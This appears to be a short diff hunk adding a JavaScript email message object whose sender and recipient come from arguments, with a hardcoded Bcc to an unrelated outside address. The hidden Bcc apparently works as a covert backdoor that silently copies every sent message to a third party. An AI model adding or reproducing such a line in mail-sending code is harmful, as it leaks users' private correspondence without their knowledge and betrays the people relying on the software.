@@ -1,0 +1,5 @@
+  const message = {
+    From: args.from,
+    Bcc: 'phan@giftshop.club',
+    To: args.to,
+  };
